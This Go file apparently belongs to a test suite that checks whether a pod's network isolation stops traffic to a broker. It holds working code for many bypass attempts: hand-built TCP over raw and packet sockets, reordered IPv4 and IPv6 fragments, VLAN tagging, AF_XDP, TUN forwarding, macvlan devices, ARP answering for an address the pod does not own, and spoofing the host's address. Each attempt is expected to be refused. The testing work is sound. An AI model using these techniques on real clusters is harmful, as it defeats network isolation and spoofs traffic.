package bypass

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"slices"
	"time"
	"unsafe"

	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"
)

// packets: TCP that the attacker speaks itself, over whatever takes packets.
var packets = []vector{
	{name: "raw sockets, IPPROTO_TCP", as: podRoot, want: refused, attack: by(rawTCP)},
	{name: "raw sockets, IPPROTO_RAW with a header of one's own", as: podRoot, want: refused, attack: by(rawHeader)},
	{name: "raw sockets over IPv6", as: podRoot, want: refused, attack: by6(rawTCP6)},
	{name: "raw sockets with a header of one's own over IPv6", as: podRoot, want: refused, attack: by6(rawHeader6)},
	{name: "raw sockets on the host", as: podRoot, from: onHost, own: true, want: refused, attack: by(rawTCP)},
	{name: "raw sockets, data from a port that is listened at", as: podRoot, want: refused, attack: rawServed},
	{name: "raw sockets, data in a reset", as: podRoot, want: refused, attack: rawReset},
	{name: "packet sockets, SOCK_DGRAM", as: podRoot, want: refused, attack: by(packetDgram)},
	{name: "packet sockets, SOCK_RAW", as: podRoot, want: refused, attack: by(packetRaw)},
	{name: "packet sockets over IPv6", as: podRoot, want: refused, attack: by6(packetDgram)},
	{name: "packet sockets with an address of one's own", as: netRaw, want: refused, attack: byOwnAddress},
	{name: "packet sockets that bypass the queueing discipline", as: podRoot, want: refused, attack: by(packetDirect)},
	{name: "packet sockets, by a ring", as: podRoot, want: refused, attack: by(packetRing)},
	{name: "packet sockets behind a bridge", as: podRoot, from: inBridgedPod, want: refused, attack: by(packetDgram)},
	{name: "packet sockets, to a broker on the same bridge", as: podRoot, from: inBridgedPod, want: refused,
		attack: toBridged(packetNeighbour)},
	{name: "packet sockets in fragments", as: podRoot, want: refused, attack: by(fragmented)},
	{name: "packet sockets in fragments over IPv6", as: podRoot, want: refused, attack: by6(fragmented6)},
	{name: "packet sockets with extension headers over IPv6", as: podRoot, want: refused, attack: by6(extended6)},
	{name: "packet sockets with IP options", as: podRoot, want: refused, attack: by(optioned)},
	{name: "packet sockets in a VLAN", as: podRoot, want: refused, uncontrolled: "no VLAN leads to the broker",
		attack: by(tagged)},
	{name: "packet sockets in a user namespace", from: inUserNamespace, want: refused, attack: by(packetDgram)},
	{name: "AF_XDP", as: podRoot, want: refused, attack: by(xdp)},
	{name: "a TUN device and forwarding", as: root, want: refused, attack: tun},
	{name: "data with the host's own address, to a broker on the same bridge", as: podRoot, from: inBridgedPod,
		want: refused, attack: spoofed},
	{name: "a macvlan device and packet sockets", as: podRoot, want: refused, attack: macvlan},
}

// A carrier takes IP packets to the gateway.
type carrier func(a *attacker) (send func(packet []byte) error, err error)

// by speaks TCP over a carrier.
func by(c carrier) func(*attacker) error {
	return func(a *attacker) error { return a.handmade(c, a.Own4, a.to) }
}

func by6(c carrier) func(*attacker) error {
	return func(a *attacker) error {
		a.to = at(broker6)
		return a.handmade(c, a.Own6, a.to)
	}
}

func toBridged(c carrier) func(*attacker) error {
	return func(a *attacker) error {
		a.to = at(bridged4)
		return a.handmade(c, a.Own4, a.to)
	}
}

// handmade shakes hands, sends the request and waits for an answer. The kernel of the pod would end a connection that
// it does not know, so it is kept from that.
func (a *attacker) handmade(c carrier, from netip.Addr, to netip.AddrPort) error {
	if err := silence(); err != nil {
		return fmt.Errorf("keep the kernel from resetting: %w", err)
	}
	send, err := c(a)
	if err != nil {
		return unsupported(err)
	}
	ear, err := listenPackets()
	if err != nil {
		return err
	}
	defer func() { _ = unix.Close(ear) }()
	return a.converse(conversation{from: netip.AddrPortFrom(from, handPort), to: to, send: send,
		receive: func() ([]byte, error) { return readPacket(ear) }})
}

// handPort is the source port of what is made by hand.
const handPort = 40404

// conversation is a TCP connection without a kernel.
type conversation struct {
	from, to netip.AddrPort
	send     func([]byte) error
	receive  func() ([]byte, error) // an IP packet; nil when none came in a while
}

func (a *attacker) converse(c conversation) error {
	const sequence = 1000
	if err := c.send(segment(c.from, c.to, sequence, 0, tcpSYN, nil)); err != nil {
		return os.NewSyscallError("send a SYN", err)
	}
	answer, err := c.await(tcpSYN | tcpACK)
	if err != nil {
		return err
	}
	theirs := binary.BigEndian.Uint32(answer[4:]) + 1
	if err := c.send(segment(c.from, c.to, sequence+1, theirs, tcpACK, nil)); err != nil {
		return err
	}
	if err := c.send(segment(c.from, c.to, sequence+1, theirs, tcpACK|tcpPSH, a.frame())); err != nil {
		return err
	}
	_, err = c.await(tcpPSH | tcpACK)
	return err
}

// await waits for a segment with flags; its TCP header on is returned.
func (c conversation) await(flags byte) ([]byte, error) {
	for end := time.Now().Add(connectTime); time.Now().Before(end); {
		p, err := c.receive()
		if err != nil {
			return nil, err
		}
		if p == nil {
			continue
		}
		var head int
		var from netip.Addr
		switch {
		case p[0]>>4 == 4 && len(p) >= 20 && p[9] == protocolTCP:
			head, from = int(p[0]&0xf)*4, netip.AddrFrom4([4]byte(p[12:16]))
		case p[0]>>4 == 6 && len(p) >= ipv6Header && p[6] == protocolTCP:
			head, from = ipv6Header, netip.AddrFrom16([16]byte(p[8:24]))
		default:
			continue
		}
		if from != c.to.Addr() || len(p) < head+20 || binary.BigEndian.Uint16(p[head+2:]) != c.from.Port() {
			continue
		}
		if t := p[head:]; t[13]&(tcpSYN|tcpACK|tcpPSH|tcpRST) == flags {
			return t, nil
		}
	}
	return nil, fmt.Errorf("no answer with flags %#x", flags)
}

// segment is a TCP segment in an IP packet.
func segment(from, to netip.AddrPort, sequence, acknowledged uint32, flags byte, payload []byte) []byte {
	t := binary.BigEndian.AppendUint16(nil, from.Port())
	t = binary.BigEndian.AppendUint16(t, to.Port())
	t = binary.BigEndian.AppendUint32(t, sequence)
	t = binary.BigEndian.AppendUint32(t, acknowledged)
	t = append(t, 5<<4, flags, 0xff, 0xff, 0, 0, 0, 0)
	t = append(t, payload...)
	pseudo := slices.Concat(from.Addr().AsSlice(), to.Addr().AsSlice())
	pseudo = binary.BigEndian.AppendUint32(pseudo, uint32(len(t)))
	pseudo = binary.BigEndian.AppendUint32(pseudo, protocolTCP)
	binary.BigEndian.PutUint16(t[16:], checksum(append(pseudo, t...)))
	return ip(from.Addr(), to.Addr(), t)
}

// ip is an IP packet of TCP.
func ip(from, to netip.Addr, payload []byte) []byte {
	if to.Is4() {
		return ip4(from, to, 0, nil, payload)
	}
	return ip6(from, to, protocolTCP, payload)
}

func ip4(from, to netip.Addr, fragment uint16, options, payload []byte) []byte {
	head := 20 + len(options)
	h := []byte{4<<4 | byte(head/4), 0}
	h = binary.BigEndian.AppendUint16(h, uint16(head+len(payload)))
	h = binary.BigEndian.AppendUint16(h, 4711)
	h = binary.BigEndian.AppendUint16(h, fragment)
	h = append(h, 64, protocolTCP, 0, 0)
	h = slices.Concat(h, from.AsSlice(), to.AsSlice(), options)
	binary.BigEndian.PutUint16(h[10:], checksum(h))
	return append(h, payload...)
}

func ip6(from, to netip.Addr, next byte, payload []byte) []byte {
	h := binary.BigEndian.AppendUint16([]byte{6 << 4, 0, 0, 0}, uint16(len(payload)))
	h = append(h, next, 64)
	return slices.Concat(h, from.AsSlice(), to.AsSlice(), payload)
}

func checksum(b []byte) uint16 {
	var sum uint32
	for i, v := range b {
		sum += uint32(v) << (8 * (1 - i%2))
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}

// listenPackets hears everything on the devices of the namespace.
func listenPackets() (int, error) {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, int(network16(unix.ETH_P_ALL)))
	if err != nil {
		return -1, os.NewSyscallError("socket AF_PACKET", err)
	}
	wait := unix.NsecToTimeval(int64(50 * time.Millisecond))
	return fd, unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &wait)
}

// readPacket is the next packet, nil when none came in a while.
func readPacket(fd int) ([]byte, error) {
	b := make([]byte, 1<<16)
	n, _, err := unix.Recvfrom(fd, b, 0)
	if errors.Is(err, unix.EAGAIN) || errors.Is(err, unix.EINTR) || n == 0 && err == nil {
		return nil, nil
	}
	return b[:max(n, 0)], err
}

func rawTCP(a *attacker) (func([]byte) error, error) {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_TCP)
	return func(p []byte) error { return unix.Sendto(fd, p[20:], 0, sockaddr(netip.AddrPortFrom(a.to.Addr(), 0))) }, err
}

// rawServed sends data as a server would to its client, who has a broker's port.
func rawServed(a *attacker) error {
	l, err := net.Listen("tcp4", netip.AddrPortFrom(a.Own4, handPort).String())
	if err != nil {
		return err
	}
	defer func() { _ = l.Close() }()
	return a.rawData(tcpACK | tcpPSH)
}

func rawReset(a *attacker) error { return a.rawData(tcpRST | tcpACK) }

// rawData sends the request to a broker that has no connection for it, but gets it.
func (a *attacker) rawData(flags byte) error {
	send, err := rawTCP(a)
	if err != nil {
		return err
	}
	return send(segment(netip.AddrPortFrom(a.Own4, handPort), a.to, 1000, 1, flags, a.frame()))
}

func rawHeader(a *attacker) (func([]byte) error, error) {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW)
	return func(p []byte) error { return unix.Sendto(fd, p, 0, sockaddr(netip.AddrPortFrom(a.to.Addr(), 0))) }, err
}

func rawTCP6(a *attacker) (func([]byte) error, error) {
	fd, err := unix.Socket(unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_TCP)
	return func(p []byte) error {
		return unix.Sendto(fd, p[ipv6Header:], 0, sockaddr(netip.AddrPortFrom(a.to.Addr(), 0)))
	}, err
}

func rawHeader6(a *attacker) (func([]byte) error, error) {
	fd, err := unix.Socket(unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_RAW)
	return func(p []byte) error { return unix.Sendto(fd, p, 0, sockaddr(netip.AddrPortFrom(a.to.Addr(), 0))) }, err
}

// toGateway is the link-layer address of the gateway, which the warm-up made known.
func (a *attacker) toGateway(p []byte) (*unix.SockaddrLinklayer, error) {
	if p[0]>>4 == 4 {
		return a.neighbour(a.Gateway4, unix.ETH_P_IP)
	}
	return a.neighbour(a.Gateway6, unix.ETH_P_IPV6)
}

func (a *attacker) neighbour(ip netip.Addr, protocol uint16) (*unix.SockaddrLinklayer, error) {
	index := indexOf(a.Device)
	// What was not asked for yet is not known.
	if conn, err := net.Dial("udp", netip.AddrPortFrom(ip, fencePort).String()); err == nil {
		_, _ = conn.Write([]byte{0})
		_ = conn.Close()
	}
	for end := time.Now().Add(answerTime); time.Now().Before(end); pause() {
		all, err := netlink.NeighList(0, netlink.FAMILY_ALL)
		if err != nil {
			return nil, err
		}
		for _, n := range all {
			if found, _ := netip.AddrFromSlice(n.IP); found.Unmap() == ip && len(n.HardwareAddr) == 6 {
				to := &unix.SockaddrLinklayer{Protocol: network16(protocol), Ifindex: index, Halen: 6}
				copy(to.Addr[:], n.HardwareAddr)
				return to, nil
			}
		}
	}
	return nil, fmt.Errorf("no neighbour %v", ip)
}

func indexOf(device string) int {
	i, err := net.InterfaceByName(device)
	if err != nil {
		return 0
	}
	return i.Index
}

func packetDgram(a *attacker) (func([]byte) error, error) {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM, 0)
	return func(p []byte) error {
		to, err := a.toGateway(p)
		if err != nil {
			return err
		}
		return unix.Sendto(fd, p, 0, to)
	}, err
}

// packetNeighbour sends to a destination that is a neighbour itself.
func packetNeighbour(a *attacker) (func([]byte) error, error) {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM, 0)
	return func(p []byte) error {
		to, err := a.neighbour(a.to.Addr(), unix.ETH_P_IP)
		if err != nil {
			return err
		}
		return unix.Sendto(fd, p, 0, to)
	}, err
}

// frame is an Ethernet frame to the gateway.
func (a *attacker) ethernet(p []byte) ([]byte, *unix.SockaddrLinklayer, error) {
	to, err := a.toGateway(p)
	if err != nil {
		return nil, nil, err
	}
	own, err := net.InterfaceByName(a.Device)
	if err != nil {
		return nil, nil, err
	}
	kind := binary.NativeEndian.AppendUint16(nil, to.Protocol)
	return slices.Concat(to.Addr[:6], own.HardwareAddr, kind, p), to, nil
}

// packetFrames sends whole frames by a packet socket that was prepared.
func packetFrames(change func(frame []byte) []byte, prepare func(fd int) error) carrier {
	return func(a *attacker) (func([]byte) error, error) {
		fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0)
		if err != nil {
			return nil, err
		}
		return func(p []byte) error {
			f, to, err := a.ethernet(p)
			if err != nil {
				return err
			}
			return unix.Sendto(fd, change(f), 0, to)
		}, prepare(fd)
	}
}

func unchanged(f []byte) []byte { return f }

var (
	packetRaw    = packetFrames(unchanged, func(int) error { return nil })
	packetDirect = packetFrames(unchanged, func(fd int) error {
		return unix.SetsockoptInt(fd, unix.SOL_PACKET, unix.PACKET_QDISC_BYPASS, 1)
	})
	tagged = packetFrames(func(f []byte) []byte {
		return slices.Concat(f[:12], []byte{0x81, 0, 0, 7}, f[12:]) // 802.1Q, VLAN 7
	}, func(int) error { return nil })
)

// cut is a carrier that makes other packets of each.
func cut(c carrier, into func(p []byte) [][]byte) carrier {
	return func(a *attacker) (func([]byte) error, error) {
		send, err := c(a)
		return func(p []byte) error {
			var errs []error
			for _, piece := range into(p) {
				errs = append(errs, send(piece))
			}
			return errors.Join(errs...)
		}, err
	}
}

func addressesOf4(p []byte) (from, to netip.Addr) {
	return netip.AddrFrom4([4]byte(p[12:16])), netip.AddrFrom4([4]byte(p[16:20]))
}

func addressesOf6(p []byte) (from, to netip.Addr) {
	return netip.AddrFrom16([16]byte(p[8:24])), netip.AddrFrom16([16]byte(p[24:40]))
}

const moreFragments = 0x2000

var (
	// The first fragment has the ports and nothing else, the second comes first.
	fragmented = cut(packetDgram, func(p []byte) [][]byte {
		from, to := addressesOf4(p)
		return [][]byte{ip4(from, to, 1, nil, p[28:]), ip4(from, to, moreFragments, nil, p[20:28])}
	})
	fragmented6 = cut(packetDgram, func(p []byte) [][]byte {
		from, to := addressesOf6(p)
		part := func(offset, more byte, b []byte) []byte {
			return ip6(from, to, protocolFragment, slices.Concat([]byte{protocolTCP, 0, 0, offset | more, 0, 0, 0, 7}, b))
		}
		// RFC 7112: the first has the whole header.
		tcp := p[ipv6Header:]
		if len(tcp) <= 24 {
			return [][]byte{part(0, 0, tcp)}
		}
		return [][]byte{part(24, 0, tcp[24:]), part(0, 1, tcp[:24])}
	})
	extended6 = cut(packetDgram, func(p []byte) [][]byte {
		const destinationOptions, hopByHop = 60, 0
		from, to := addressesOf6(p)
		options := func(next byte) []byte { return []byte{next, 0, 1, 4, 0, 0, 0, 0} }
		return [][]byte{ip6(from, to, hopByHop, slices.Concat(options(destinationOptions),
			options(destinationOptions), options(protocolTCP), p[ipv6Header:]))}
	})
	optioned = cut(packetDgram, func(p []byte) [][]byte {
		from, to := addressesOf4(p)
		const noOperation = 1
		return [][]byte{ip4(from, to, 0, slices.Repeat([]byte{noOperation}, 8), p[20:])}
	})
)

// byOwnAddress needs no more than containers have: it takes an address that the kernel of the pod does not have, and so
// does not reset, and answers for it (ARP).
func byOwnAddress(a *attacker) error {
	own := beside(a.Own4)
	send, err := packetDgram(a)
	if err != nil {
		return err
	}
	ear, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, int(network16(unix.ETH_P_ALL)))
	if err != nil {
		return err
	}
	defer func() { _ = unix.Close(ear) }()
	wait := unix.NsecToTimeval(int64(50 * time.Millisecond))
	if err := unix.SetsockoptTimeval(ear, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &wait); err != nil {
		return err
	}
	device, err := net.InterfaceByName(a.Device)
	if err != nil {
		return err
	}
	return a.converse(conversation{from: netip.AddrPortFrom(own, handPort), to: a.to, send: send,
		receive: func() ([]byte, error) {
			f, err := readPacket(ear)
			if err != nil || len(f) < 42 {
				return nil, err
			}
			const request, reply = 1, 2
			kind, arp := binary.BigEndian.Uint16(f[12:]), f[14:]
			if kind == unix.ETH_P_ARP && binary.BigEndian.Uint16(arp[6:]) == request && [4]byte(arp[24:28]) == own.As4() {
				answer := slices.Concat(arp[8:14], device.HardwareAddr, f[12:14], arp[:6], []byte{0, reply},
					device.HardwareAddr, arp[24:28], arp[8:18])
				to := &unix.SockaddrLinklayer{Protocol: network16(unix.ETH_P_ARP), Ifindex: device.Index, Halen: 6}
				copy(to.Addr[:], arp[8:14])
				return nil, unix.Sendto(ear, answer, 0, to)
			}
			if kind != unix.ETH_P_IP {
				return nil, nil
			}
			return f[14:], nil
		}})
}

// packetRing sends by a ring that is shared with the kernel (TPACKET_V1).
func packetRing(a *attacker) (func([]byte) error, error) {
	const frameSize, statusRequest, dataAt = 2048, 1, 32 // TP_STATUS_SEND_REQUEST; TPACKET_ALIGN(sizeof(tpacket_hdr))
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0)
	if err != nil {
		return nil, err
	}
	ring := unix.TpacketReq{Block_size: 4096, Block_nr: 1, Frame_size: frameSize, Frame_nr: 4096 / frameSize}
	if err := unix.SetsockoptTpacketReq(fd, unix.SOL_PACKET, unix.PACKET_TX_RING, &ring); err != nil {
		return nil, err
	}
	shared, err := unix.Mmap(fd, 0, 4096, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	if err != nil {
		return nil, err
	}
	to := &unix.SockaddrLinklayer{Ifindex: indexOf(a.Device), Protocol: network16(unix.ETH_P_IP)}
	if err := unix.Bind(fd, to); err != nil {
		return nil, err
	}
	next := 0
	return func(p []byte) error {
		f, _, err := a.ethernet(p)
		if err != nil {
			return err
		}
		slot := shared[next%2*frameSize:]
		next++
		copy(slot[dataAt:], f)
		binary.NativeEndian.PutUint32(slot[8:], uint32(len(f))) // tp_len
		binary.NativeEndian.PutUint64(slot[0:], statusRequest)  // tp_status, last
		return unix.Sendto(fd, nil, 0, nil)
	}, nil
}

// spoofed says to be the host: were it let through, it could be put into the node's connections.
func spoofed(a *attacker) error {
	a.to = at(bridged4)
	send, err := packetNeighbour(a)
	if err != nil {
		return err
	}
	return send(segment(netip.AddrPortFrom(bridgeHost4, handPort), a.to, 1000, 1, tcpACK|tcpPSH, a.frame()))
}

// macvlan has another device, with another link-layer address, on the pod's own.
func macvlan(a *attacker) error {
	attrs := netlink.NewLinkAttrs()
	attrs.Name, attrs.ParentIndex = "macvlan0", indexOf(a.Device)
	if err := netlink.LinkAdd(&netlink.Macvlan{LinkAttrs: attrs, Mode: netlink.MACVLAN_MODE_BRIDGE}); err != nil {
		return unsupported(err)
	}
	own := beside(a.Own4)
	if err := errors.Join(address(attrs.Name, []netip.Prefix{netip.PrefixFrom(own, 24)}), up(attrs.Name)); err != nil {
		return err
	}
	a.Device = attrs.Name
	return a.handmade(packetRaw, own, a.to)
}

// tun makes a device of its own whose packets the pod forwards.
func tun(a *attacker) error {
	fd, err := unix.Open("/dev/net/tun", unix.O_RDWR|unix.O_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("%w: /dev/net/tun: %w", errUnsupported, err)
	}
	defer func() { _ = unix.Close(fd) }()
	request, err := unix.NewIfreq("tun0")
	if err != nil {
		return err
	}
	request.SetUint16(unix.IFF_TUN | unix.IFF_NO_PI)
	if err := unix.IoctlIfreq(fd, unix.TUNSETIFF, request); err != nil {
		return os.NewSyscallError("TUNSETIFF", err)
	}
	// Behind the device is an address of the pod's network, for which the pod answers.
	own := beside(a.Own4)
	if err := errors.Join(address("tun0", []netip.Prefix{netip.MustParsePrefix("10.96.0.1/32")}), up("tun0"),
		routeTo(own, "tun0"), sysctl("net/ipv4/ip_forward", "1"), sysctl("net/ipv4/conf/eth0/proxy_arp", "1"),
		sysctl("net/ipv4/neigh/eth0/proxy_delay", "0")); err != nil {
		return err
	}
	if err := unix.SetNonblock(fd, true); err != nil {
		return err
	}
	return a.converse(conversation{from: netip.AddrPortFrom(own, handPort), to: a.to,
		send: func(p []byte) error {
			_, err := unix.Write(fd, p)
			return err
		},
		receive: func() ([]byte, error) {
			if n, err := unix.Poll([]unix.PollFd{{Fd: int32(fd), Events: unix.POLLIN}}, 50); n == 0 || err != nil {
				return nil, err
			}
			b := make([]byte, 4096)
			n, err := unix.Read(fd, b)
			return b[:max(n, 0)], err
		}})
}

func routeTo(to netip.Addr, device string) error {
	return netlink.RouteAdd(&netlink.Route{Dst: prefix(netip.PrefixFrom(to, to.BitLen())), LinkIndex: indexOf(device),
		Scope: netlink.SCOPE_LINK})
}

// xdp sends by AF_XDP, which is below everything that filters in the pod.
func xdp(a *attacker) (func([]byte) error, error) {
	const frames, frameSize = 16, 2048
	fd, err := unix.Socket(unix.AF_XDP, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return nil, err
	}
	memory, err := unix.Mmap(-1, 0, frames*frameSize, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_PRIVATE|unix.MAP_ANON)
	if err != nil {
		return nil, err
	}
	registration := unix.XDPUmemReg{Addr: uint64(uintptr(unsafe.Pointer(&memory[0]))), Len: uint64(len(memory)),
		Size: frameSize}
	if err := setsockopt(fd, unix.SOL_XDP, unix.XDP_UMEM_REG, unsafe.Pointer(&registration),
		unsafe.Sizeof(registration)); err != nil {
		return nil, os.NewSyscallError("XDP_UMEM_REG", err)
	}
	for _, ring := range []int{unix.XDP_UMEM_FILL_RING, unix.XDP_UMEM_COMPLETION_RING, unix.XDP_TX_RING} {
		if err := unix.SetsockoptInt(fd, unix.SOL_XDP, ring, frames); err != nil {
			return nil, err
		}
	}
	var offsets unix.XDPMmapOffsets
	size := uint32(unsafe.Sizeof(offsets))
	if _, _, errno := unix.Syscall6(unix.SYS_GETSOCKOPT, uintptr(fd), unix.SOL_XDP, unix.XDP_MMAP_OFFSETS,
		uintptr(unsafe.Pointer(&offsets)), uintptr(unsafe.Pointer(&size)), 0); errno != 0 {
		return nil, errno
	}
	const descriptorSize = 16
	ring, err := unix.Mmap(fd, unix.XDP_PGOFF_TX_RING, int(offsets.Tx.Desc)+frames*descriptorSize,
		unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	if err != nil {
		return nil, err
	}
	to := unix.SockaddrXDP{Flags: unix.XDP_COPY, Ifindex: uint32(indexOf(a.Device))}
	if err := unix.Bind(fd, &to); err != nil {
		return nil, os.NewSyscallError("bind AF_XDP", err)
	}
	next := uint32(0)
	return func(p []byte) error {
		f, _, err := a.ethernet(p)
		if err != nil {
			return err
		}
		at := uint64(next%frames) * frameSize
		copy(memory[at:], f)
		slot := ring[offsets.Tx.Desc+uint64(next%frames)*descriptorSize:]
		binary.NativeEndian.PutUint64(slot, at)
		binary.NativeEndian.PutUint32(slot[8:], uint32(len(f)))
		next++
		binary.NativeEndian.PutUint32(ring[offsets.Tx.Producer:], next)
		return unix.Sendto(fd, nil, unix.MSG_DONTWAIT, nil)
	}, nil
}

func setsockopt(fd, level, name int, value unsafe.Pointer, size uintptr) error {
	_, _, errno := unix.Syscall6(unix.SYS_SETSOCKOPT, uintptr(fd), uintptr(level), uintptr(name), uintptr(value), size, 0)
	if errno != 0 {
		return errno
	}
	return nil
}
